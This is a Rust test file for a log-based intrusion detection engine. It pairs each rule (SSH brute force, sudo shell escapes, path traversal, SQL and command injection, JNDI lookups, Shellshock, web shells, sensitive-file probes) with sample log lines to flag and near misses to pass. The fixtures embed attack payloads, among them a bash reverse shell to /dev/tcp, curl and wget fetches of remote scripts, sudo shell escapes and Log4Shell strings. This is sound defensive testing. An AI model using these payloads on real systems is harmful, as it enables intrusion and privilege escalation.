//! Lines that rules match, and near misses that they do not.

use super::*;

/// A rule, lines it must find and lines it must not.
pub(super) struct Case {
    pub(super) rule: &'static str,
    finds: &'static [&'static str],
    passes: &'static [&'static str],
}

#[test]
fn each_rule_finds_its_lines_and_no_near_misses() {
    let rules = built_in().unwrap();
    let mut wrong = Vec::new();
    for Case { rule, finds, passes } in CASES {
        if finds.len() < 2 || passes.len() < 2 {
            wrong.push(format!("{rule} has too few lines"));
        }
        for (lines, expected) in [(finds, true), (passes, false)] {
            for line in *lines {
                let found = rules_finding(&rules, line);
                if found.iter().any(|name| name == rule) != expected {
                    wrong.push(format!("{rule} should be {expected} for {line}; found {found:?}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

macro_rules! get {
    ($target:literal, $status:literal) => {
        get!($target, $status, "-", "Mozilla/5.0")
    };
    ($target:literal, $status:literal, $referer:literal, $agent:literal) => {
        concat!(
            "198.51.100.7 - - [20/Nov/2026:09:10:11 +0000] \"GET ",
            $target,
            " HTTP/1.1\" ",
            $status,
            " 153 \"",
            $referer,
            "\" \"",
            $agent,
            "\""
        )
    };
}

macro_rules! post {
    ($target:literal, $status:literal) => {
        concat!(
            "198.51.100.7 - - [20/Nov/2026:09:10:11 +0000] \"POST ",
            $target,
            " HTTP/1.1\" ",
            $status,
            " 153 \"-\" \"Mozilla/5.0\""
        )
    };
}

macro_rules! ssh {
    ($message:literal) => {
        concat!("Nov 20 09:10:11 web-1 sshd[812]: ", $message)
    };
}

macro_rules! sudo {
    ($command:literal) => {
        concat!(
            "Nov 20 09:10:11 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=",
            $command
        )
    };
}

macro_rules! sudo_refused {
    ($reason:literal, $command:literal) => {
        concat!(
            "Nov 20 09:10:11 web-1 sudo:  bob : ",
            $reason,
            " ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=",
            $command
        )
    };
}

pub(super) const CASES: &[Case] = &[
    Case {
        rule: "ssh_login_failed",
        finds: &[
            ssh!("Failed password for root from 198.51.100.7 port 5 ssh2"),
            ssh!("Failed password for invalid user admin from 2001:db8::17 port 5 ssh2"),
            ssh!("Failed keyboard-interactive/pam for bob from 198.51.100.7 port 5 ssh2"),
            ssh!("message repeated 2 times: [ Failed password for root from 198.51.100.7 port 5 ssh2]"),
        ],
        passes: &[
            ssh!("Failed publickey for bob from 198.51.100.7 port 5 ssh2: RSA SHA256:abc"),
            ssh!("Failed none for invalid user bob from 198.51.100.7 port 5 ssh2"),
            ssh!("Accepted password for bob from 198.51.100.7 port 5 ssh2"),
            ssh!(
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.7  user=root"
            ),
            "Nov 20 09:10:11 web-1 shop[5]: Failed password for root from 198.51.100.7 port 5 ssh2",
        ],
    },
    Case {
        rule: "ssh_login_by_password",
        finds: &[
            ssh!("Accepted password for bob from 198.51.100.7 port 5 ssh2"),
            ssh!("Accepted keyboard-interactive/pam for bob from 198.51.100.7 port 5 ssh2"),
        ],
        passes: &[
            ssh!("Accepted publickey for bob from 198.51.100.7 port 5 ssh2: RSA SHA256:abc"),
            ssh!("Failed password for bob from 198.51.100.7 port 5 ssh2"),
        ],
    },
    Case {
        rule: "ssh_invalid_user",
        finds: &[
            ssh!("Invalid user admin from 198.51.100.7 port 5"),
            ssh!("Invalid user from 203.0.113.9 from 198.51.100.7 port 5"),
        ],
        passes: &[
            ssh!("Failed password for invalid user admin from 198.51.100.7 port 5 ssh2"),
            ssh!("Connection closed by invalid user admin 198.51.100.7 port 5 [preauth]"),
        ],
    },
    Case {
        rule: "ssh_login_abandoned",
        finds: &[
            ssh!("Connection closed by authenticating user root 198.51.100.7 port 5 [preauth]"),
            ssh!("Disconnected from invalid user admin 198.51.100.7 port 5 [preauth]"),
        ],
        passes: &[
            ssh!("Disconnected from user bob 198.51.100.7 port 5"),
            ssh!("Connection closed by 198.51.100.7 port 5 [preauth]"),
        ],
    },
    Case {
        rule: "ssh_root_login_by_password",
        finds: &[
            ssh!("Accepted password for root from 198.51.100.7 port 5 ssh2"),
            ssh!("Accepted keyboard-interactive/pam for root from 2001:db8::17 port 5 ssh2"),
        ],
        passes: &[
            ssh!("Accepted publickey for root from 198.51.100.7 port 5 ssh2: RSA SHA256:abc"),
            ssh!("Accepted password for rooter from 198.51.100.7 port 5 ssh2"),
            ssh!("Failed password for root from 198.51.100.7 port 5 ssh2"),
        ],
    },
    Case {
        rule: "web_login_failed",
        finds: &[
            post!("/login", "401"),
            post!("/api/v1/auth/sign-in", "403"),
            post!("/wp-login.php", "200"),
            get!("/admin/", "401"),
            "198.51.100.7 - alice [20/Nov/2026:09:10:11 +0000] \"GET /private HTTP/1.1\" 401 5",
        ],
        passes: &[
            post!("/login", "302"),
            get!("/login", "200"),
            get!("/wp-login.php", "200"),
            get!("/api/orders", "401"),
            get!("/blog/how-to-login", "404"),
        ],
    },
    Case {
        rule: "web_login_succeeded",
        finds: &[post!("/login", "302"), post!("/api/sessions", "201"), post!("/wp-login.php", "302")],
        passes: &[
            post!("/login", "401"),
            get!("/login", "200"),
            post!("/wp-login.php", "200"),
            post!("/orders", "201"),
        ],
    },
    Case {
        rule: "su_failed",
        finds: &[
            "Nov 20 09:10:11 web-1 su[9]: FAILED SU (to root) bob on pts/0",
            "Nov 20 09:10:11 web-1 su: BAD SU bob to root on /dev/pts/0",
        ],
        passes: &[
            "Nov 20 09:10:11 web-1 su[9]: (to root) bob on pts/0",
            "Nov 20 09:10:11 web-1 su[9]: FAILED SU (to postgres) bob on pts/0",
        ],
    },
    Case {
        rule: "sudo_login_failed",
        finds: &[
            sudo_refused!("3 incorrect password attempts", "/bin/ls"),
            sudo_refused!("1 incorrect password attempt", "/bin/ls"),
        ],
        passes: &[sudo_refused!("a password is required", "/bin/ls"), sudo!("/usr/bin/apt update")],
    },
    Case {
        rule: "sudo_denied",
        finds: &[
            sudo_refused!("user NOT in sudoers", "/bin/bash"),
            sudo_refused!("command not allowed", "/bin/bash"),
        ],
        passes: &[sudo!("/usr/bin/apt update"), sudo!("/bin/echo user NOT in sudoers")],
    },
    Case {
        rule: "sudo_shell_escape",
        finds: &[
            sudo!("/usr/bin/vim -c :!/bin/sh"),
            sudo!("/usr/bin/find . -exec /bin/sh -p ; -quit"),
            sudo!("/usr/bin/python3 -c import os; os.system(\"/bin/sh\")"),
            sudo!("/usr/bin/perl -e exec \"/bin/sh\";"),
            sudo!("/usr/bin/awk BEGIN {system(\"/bin/bash\")}"),
            sudo!("/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh"),
            sudo!("/usr/bin/env /bin/sh"),
        ],
        passes: &[
            sudo!("/usr/bin/vim /etc/hosts"),
            sudo!("/usr/bin/find /var/log -name *.gz -exec rm {} +"),
            sudo!("/usr/bin/python3 /opt/app/manage.py migrate"),
            sudo!("/bin/tar -czf /backup/a.tgz /srv"),
            sudo!("/usr/bin/env LANG=C apt-get update"),
            sudo!("/bin/bash"),
            sudo_refused!("command not allowed", "/usr/bin/vim -c :!/bin/sh"),
        ],
    },
    Case {
        rule: "sudo_edits_accounts",
        finds: &[
            sudo!("/usr/bin/vim /etc/sudoers"),
            sudo!("/usr/bin/tee -a /etc/sudoers.d/90-alice"),
            sudo!("/bin/cp /tmp/passwd /etc/passwd"),
            sudo!("/usr/bin/sed -i s/x// /etc/shadow"),
            sudo!("/bin/sh -c echo x >> /etc/passwd"),
        ],
        passes: &[
            sudo!("/usr/sbin/visudo"),
            sudo!("/bin/cat /etc/passwd"),
            sudo!("/usr/bin/vim /etc/hosts"),
            sudo!("/usr/bin/vim /etc/passwdqc.conf"),
            sudo!("/usr/sbin/usermod -aG docker alice"),
        ],
    },
    Case {
        rule: "web_path_traversal",
        finds: &[
            get!("/download?file=../../../../etc/passwd", "404"),
            get!("/download?file=..%2f..%2f..%2fetc%2fpasswd", "403"),
            get!("/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "400"),
            get!("/view?page=....//....//....//etc/passwd", "404"),
            get!("/cgi-bin/.%2e/.%2e/.%2e/bin/x", "400"),
            get!("/a?f=..\\..\\windows\\win.ini", "404"),
            get!("/a?f=%252e%252e%252fetc%252fpasswd", "404"),
            get!("/index.php?page=/etc/passwd", "404"),
        ],
        passes: &[
            get!("/docs/../docs/index.html", "200"),
            get!("/assets/app..min.js", "200"),
            get!("/compare/v1.0...v1.1", "200"),
            get!("/blog/what-is-etc-passwd", "200"),
            get!("/search?q=passwd", "200"),
        ],
    },
    Case {
        rule: "web_path_traversal_answered",
        finds: &[
            get!("/download?file=../../../../etc/passwd", "200"),
            get!("/download?file=..%2f..%2fetc%2fpasswd", "200"),
            get!("/index.php?page=/etc/passwd", "200"),
        ],
        passes: &[
            get!("/download?file=../../../../etc/passwd", "404"),
            get!("/download?file=report.pdf", "200"),
            get!("/wiki/etc/passwd", "200"),
        ],
    },
    Case {
        rule: "web_sql_injection",
        finds: &[
            get!("/item?id=1+UNION+SELECT+name,+pass+FROM+users", "200"),
            get!("/item?id=-1%20union%20all%20select%201,2,3--", "500"),
            get!("/item?id=1/**/union/**/select/**/null,null", "200"),
            get!("/item?id=1'%20OR%20'1'='1", "200"),
            get!("/item?id=1%20or%201=1--", "200"),
            get!("/item?id=1%27%20AND%20SLEEP(5)--", "200"),
            get!("/item?id=1;DROP+TABLE+users", "500"),
            get!("/item?id=1+and+extractvalue(1,concat(0x7e,version()))", "500"),
            get!("/item?id=(select+table_name+from+information_schema.tables)", "500"),
            post!("/login?user=admin'+or+1=1--", "302"),
        ],
        passes: &[
            get!("/search?q=union+select+committee", "200"),
            get!("/search?q=rock+and+roll", "200"),
            get!("/search?q=bed+or+breakfast", "200"),
            get!("/search?q=o'brien+and+sons", "200"),
            get!("/blog/select-from-where-explained", "200"),
            get!("/products?sort=price&order=asc&page=2", "200"),
            get!("/beds/sleep-well?model=x(2)", "200"),
            get!("/search?q=sleep%288%29+mattress", "200"),
            get!("/search?q=sleep(8)+mattress&page=2", "200"),
            get!("/item?id=1'%20OR%20'1'='1", "403"),
        ],
    },
    Case {
        rule: "web_sql_injection_turned_away",
        finds: &[
            get!("/item?id=1/**/union/**/select/**/null,null", "403"),
            get!("/?id=1'%20OR%20'1'='1", "404"),
            get!("/item?id=1%27%20AND%20SLEEP(5)--", "429"),
        ],
        passes: &[
            get!("/item?id=1'%20OR%20'1'='1", "200"),
            get!("/item?id=1'%20OR%20'1'='1", "500"),
            get!("/search?q=rock+and+roll", "404"),
        ],
    },
    Case {
        rule: "web_command_injection",
        finds: &[
            get!("/ping?host=127.0.0.1;cat+/etc/hosts", "200"),
            get!("/ping?host=127.0.0.1|id", "200"),
            get!("/ping?host=127.0.0.1;%20cat%20/etc/hosts", "200"),
            get!("/ping?host=$(whoami)", "200"),
            get!("/ping?host=`uname%20-a`", "200"),
            get!("/ping?host=x%26%26curl+http://203.0.113.9/a.sh", "200"),
            get!("/cgi-bin/x?/bin/sh+-c+id", "500"),
            get!("/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m", "500"),
            get!("/a?x=bash+-i+>%26+/dev/tcp/203.0.113.9/4444", "500"),
        ],
        passes: &[
            get!("/list?cat=shoes&id=5&sort=ls", "200"),
            get!("/page;jsessionid=1A2B", "200"),
            get!("/search?q=cat+food;+dog+food", "200"),
            get!("/search?q=tom+%26+jerry;+cat+and+mouse", "200"),
            get!("/docs/bash-tutorial", "200"),
            get!("/search?q=curl+examples", "200"),
            get!("/a|b", "200"),
            get!("/ping?host=127.0.0.1;cat+/etc/hosts", "404"),
        ],
    },
    Case {
        rule: "web_command_injection_turned_away",
        finds: &[
            get!("/cgi-bin/x?/bin/sh+-c+id", "404"),
            get!("/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m", "404"),
            get!("/a?x=bash+-i+>%26+/dev/tcp/203.0.113.9/4444", "400"),
        ],
        passes: &[
            get!("/ping?host=127.0.0.1;cat+/etc/hosts", "200"),
            get!("/ping?host=127.0.0.1;cat+/etc/hosts", "500"),
            get!("/list?cat=shoes&id=5&sort=ls", "404"),
        ],
    },
    Case {
        rule: "web_jndi_lookup",
        finds: &[
            get!("/", "200", "-", "${jndi:ldap://203.0.113.9/a}"),
            get!("/?x=${jndi:ldap://203.0.113.9/a}", "404"),
            get!("/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", "404"),
            get!("/", "200", "${${lower:j}ndi:rmi://203.0.113.9/a}", "Mozilla/5.0"),
            get!("/", "200", "-", "${${::-j}${::-n}di:dns://203.0.113.9}"),
        ],
        passes: &[get!("/docs/jndi-lookup", "200"), get!("/?price=${price}", "200")],
    },
    Case {
        rule: "web_shellshock",
        finds: &[
            get!("/cgi-bin/status", "200", "-", "() { :;}; /bin/bash -c 'id'"),
            get!("/cgi-bin/status", "200", "() { ignored; }; /usr/bin/id", "Mozilla/5.0"),
        ],
        passes: &[get!("/", "200", "-", "Mozilla/5.0 (X11; Linux) {a;}"), get!("/js?f=function(){}", "200")],
    },
    Case {
        rule: "web_shell_access",
        finds: &[
            get!("/c99.php", "200"),
            post!("/wp-content/uploads/2026/11/x.php", "200"),
            get!("/images/logo.php?cmd=id", "200"),
            get!("/index.php?cmd=whoami", "200"),
            get!("/cmd.jsp", "200"),
        ],
        passes: &[
            get!("/c99.php", "404"),
            get!("/wp-content/uploads/2026/11/x.png", "200"),
            get!("/index.php?cmd=checkout", "200"),
            get!("/shell.html", "200"),
            get!("/seashell.php", "200"),
        ],
    },
    Case {
        rule: "web_not_found",
        finds: &[
            get!("/missing", "404"),
            get!("/closed", "403"),
            get!("/wp-login.php", "404", "-", "Mozilla/5.0 (compatible; Googlebot/2.1)"),
            get!("/.env", "404", "-", "Mozilla/5.0 (compatible; bingbot/2.0)"),
        ],
        passes: &[
            get!("/", "200"),
            get!("/", "301"),
            get!("/", "500"),
            get!("/produkte/betten/12.html", "404", "-", "Mozilla/5.0 (compatible; Googlebot/2.1)"),
        ],
    },
    Case {
        rule: "web_server_fault",
        finds: &[get!("/", "500"), get!("/", "501")],
        passes: &[get!("/", "502"), get!("/", "503"), get!("/", "404")],
    },
    Case {
        rule: "web_scanner_user_agent",
        finds: &[
            get!("/", "200", "-", "sqlmap/1.8 (https://sqlmap.org)"),
            get!("/", "404", "-", "Mozilla/5.00 (Nikto/2.5.0)"),
            get!("/", "200", "-", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
        ],
        passes: &[
            get!("/sqlmap/", "200"),
            get!("/", "200", "-", "curl/8.5.0"),
            get!("/", "200", "-", "Mozilla/5.0 (compatible; Googlebot/2.1)"),
        ],
    },
    Case {
        rule: "web_sensitive_file_probe",
        finds: &[
            get!("/.env", "404"),
            get!("/shop/.git/config", "403"),
            get!("/backup.zip", "404"),
            get!("/wp-config.php.bak", "404"),
            get!("/.aws/credentials", "404"),
        ],
        passes: &[
            get!("/.env", "200"),
            get!("/favicon.ico", "404"),
            get!("/.well-known/security.txt", "404"),
            get!("/docs/dot.env.html", "404"),
            get!("/backup", "404"),
        ],
    },
    Case {
        rule: "web_sensitive_file_served",
        finds: &[
            get!("/.env", "200"),
            get!("/.git/HEAD", "200"),
            get!("/api/.env.production", "200"),
            get!("/dump.sql", "206"),
        ],
        passes: &[
            get!("/.env", "404"),
            get!("/.env.example", "200"),
            get!("/.well-known/acme-challenge/x", "200"),
            get!("/environment", "200"),
            get!("/.gitignore", "200"),
        ],
    },
    Case {
        rule: "web_server_error",
        finds: &[get!("/", "500"), get!("/", "502")],
        passes: &[get!("/", "200"), get!("/", "499"), get!("/500", "404")],
    },
];
